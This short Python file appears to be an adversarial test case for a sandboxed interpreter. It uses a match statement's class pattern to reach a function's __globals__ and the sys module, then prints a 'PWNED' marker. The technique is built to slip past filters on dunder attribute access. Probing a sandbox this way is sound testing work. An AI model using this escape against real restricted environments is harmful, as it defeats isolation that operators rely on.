# adversary round 2: 026_match_class_pattern
import dataclasses
match dataclasses.fields:
    case object(__globals__=g):
        print(g["sys"], "PWN"+"ED")
